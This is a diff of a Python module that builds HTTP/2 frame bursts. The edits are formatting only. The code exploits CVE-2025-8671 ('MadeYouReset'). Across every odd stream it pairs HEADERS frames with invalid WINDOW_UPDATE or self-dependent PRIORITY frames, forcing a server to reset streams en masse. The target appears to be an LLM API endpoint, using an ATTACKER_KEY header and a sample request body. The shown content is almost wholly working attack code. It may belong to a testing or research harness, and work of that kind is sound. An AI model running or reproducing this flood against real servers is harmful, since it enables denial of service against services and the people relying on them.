@@ -29,9 +29,7 @@ Pieces = Callable[[], Iterator[bytes]]
 BURST = 200  # frames sent in one piece
 _GET = header_block()
 _POST = header_block("POST", "/v1/messages", content_type="application/json")
-_POST_WITH_KEY = header_block(
-    "POST", "/v1/messages", content_type="application/json", x_api_key=ATTACKER_KEY
-)
+_POST_WITH_KEY = header_block("POST", "/v1/messages", content_type="application/json", x_api_key=ATTACKER_KEY)
 _CANCEL = (8).to_bytes(4)
 _ASK = b'{"model":"gemini-3.8-flash","max_tokens":9,"messages":[{"role":"user","content":"hi"}]}'
 ODD = range(1, 2**31, 2)
@@ -75,8 +73,7 @@ def made_you_reset_by_window() -> Iterator[bytes]:
     """CVE-2025-8671: the server resets each stream because of an invalid WINDOW_UPDATE."""
     yield opening()
     yield from _bursts(
-        frame(HEADERS, END_HEADERS, stream, _POST)
-        + frame(WINDOW_UPDATE, 0, stream, (2**31 - 1).to_bytes(4))
+        frame(HEADERS, END_HEADERS, stream, _POST) + frame(WINDOW_UPDATE, 0, stream, (2**31 - 1).to_bytes(4))
         for stream in ODD
     )
 
@@ -111,8 +108,7 @@ def made_you_reset_by_priority() -> Iterator[bytes]:
     """A stream that depends on itself."""
     yield opening()
     yield from _bursts(
-        frame(HEADERS, END_HEADERS, stream, _POST)
-        + frame(PRIORITY, 0, stream, stream.to_bytes(4) + b"\x10")
+        frame(HEADERS, END_HEADERS, stream, _POST) + frame(PRIORITY, 0, stream, stream.to_bytes(4) + b"\x10")
         for stream in ODD
     )
 
